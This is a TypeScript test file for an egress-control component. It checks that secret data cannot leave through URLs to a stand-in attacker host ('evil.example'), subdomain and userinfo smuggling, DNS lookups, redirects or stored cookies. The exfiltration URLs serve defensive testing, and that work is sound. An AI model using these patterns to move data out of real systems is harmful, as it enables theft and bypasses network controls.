import assert from 'node:assert/strict'
import { describe, test } from 'node:test'

import { createEgress } from '#adapters'

import { clock, codeOf, get, grantsOf, limits, serve } from './victim.ts'

const data = 'what-nobody-else-may-read'

describe('F1: data that is to leave', () => {
  const places: Readonly<Record<string, string>> = {
    'in the query of another host': `http://evil.example/?q=${data}`,
    'in the path of another host, as an image': `https://evil.example/${data}.png`,
    'in a name below another host': `http://${data}.evil.example/`,
    'in a name below a granted host': `http://${data}.granted.example/`,
    'in a name that a granted one is below': `http://granted.example.${data}.example/`,
    'in the port of a granted host': 'http://granted.example:31337/',
    'in a user of a granted host': `http://${data}@granted.example/`,
  }
  for (const [where, url] of Object.entries(places)) {
    test(`does not leave ${where}, not even as a question to a name server`, async () => {
      const asked: string[] = []
      const egress = createEgress({
        grants: grantsOf('granted.example:80'),
        clock,
        resolve: async (host) => (asked.push(host), []),
      })
      assert.match(
        await codeOf(egress.send(get(url), limits)),
        /^(gate\.host_not_granted|net\.request_invalid)$/,
      )
      assert.deepEqual(asked, [])
    })
  }

  test('is not carried to another host by a redirect, in the query, a header or a body', async () => {
    await using other = await serve()
    for (const status of [302, 307]) {
      await using server = await serve((request, response) =>
        response.writeHead(status, { location: `http://localhost:${other.port}${request.url}` }).end(),
      )
      const asked: string[] = []
      const egress = createEgress({
        grants: grantsOf(`127.0.0.1:${server.port}`),
        clock,
        resolve: async (host) => (asked.push(host), ['127.0.0.1']),
      })
      const body = Buffer.from(data)
      const request = {
        url: `http://127.0.0.1:${server.port}/?q=${data}`,
        method: 'POST',
        headers: { 'x-data': data },
        body,
      }
      // Something was sent to the first host, so nobody can say that nothing happened.
      assert.equal(await codeOf(egress.send(request, limits)), 'net.interrupted')
      assert.deepEqual(asked, [])
    }
    assert.equal(other.seen.length, 0)
  })

  test('does not leave with a cookie that an answer set, for none is kept', async () => {
    await using server = await serve((_request, response) =>
      response.writeHead(200, { 'set-cookie': `kept=${data}` }).end(),
    )
    const egress = createEgress({ grants: grantsOf(`127.0.0.1:${server.port}`), clock })
    for (let turn = 0; turn < 2; turn += 1) await egress.send(get(`http://127.0.0.1:${server.port}/`), limits)
    assert.equal(
      server.seen.some(({ headers }) => 'cookie' in headers),
      false,
    )
  })
})
